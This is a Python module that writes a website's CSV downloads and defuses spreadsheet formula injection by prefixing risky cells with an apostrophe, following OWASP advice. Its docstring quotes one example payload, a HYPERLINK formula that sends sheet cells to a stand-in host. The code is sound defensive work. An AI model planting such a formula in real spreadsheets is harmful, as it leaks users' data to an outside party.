"""Every CSV file the site hands out (the Downloads page's tables, a role profile), written by
one function, so that none lets a spreadsheet run a translator's text as a formula.

A cell starting with "=", "+", "-", "@", a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example/?x="&A1;"Click")` sends the
sheet's cells elsewhere). No SFIA text starts so, but translations and profile titles are typed
by hand: such a text gets an apostrophe first, which the spreadsheet shows as text and hides,
as OWASP's "CSV Injection" advises.
"""

import csv
import io

# Excel reads a CSV file as UTF-8 only if it starts with the byte order mark; without it,
# Russian and Arabic come out as mojibake.
BYTE_ORDER_MARK = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def defused(value):
    """A cell's value that no spreadsheet runs: text starting as a formula gets an apostrophe
    first; numbers, and None (an empty cell), are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return "" if value is None else value


def csv_bytes(rows):
    """`rows` (lists of cell values) as a CSV file in UTF-8 with a byte order mark, every cell
    defused."""
    out = io.StringIO()
    out.write(BYTE_ORDER_MARK)
    csv.writer(out).writerows([defused(value) for value in row] for row in rows)
    return out.getvalue().encode("utf-8")
